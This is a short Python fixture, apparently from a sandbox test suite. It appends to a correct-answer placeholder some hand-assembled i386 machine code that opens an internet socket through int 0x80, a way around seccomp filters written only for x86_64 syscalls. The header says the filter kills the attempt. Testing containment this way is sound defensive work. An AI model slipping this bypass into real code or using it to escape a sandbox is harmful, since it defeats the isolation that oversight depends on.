# A correct answer that opens an internet socket through the i386 system-call entry (int 0x80 from an
# executable mapping), where a filter written for x86_64 numbers alone would not look.
# stopped by: seccomp (libseccomp's filter kills any call from a foreign architecture: SIGSYS)
import ctypes, mmap

{CORRECT}

# mov eax, 359 (socket); mov ebx, 2 (AF_INET); mov ecx, 1 (SOCK_STREAM); xor edx, edx; int 0x80; ret
_code = bytes([0xB8, 0x67, 0x01, 0, 0, 0xBB, 2, 0, 0, 0, 0xB9, 1, 0, 0, 0, 0x31, 0xD2, 0xCD, 0x80, 0xC3])
_page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
_page.write(_code)
_fd = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(_page)))()
raise RuntimeError(f"REPORT an internet socket, descriptor {_fd}")
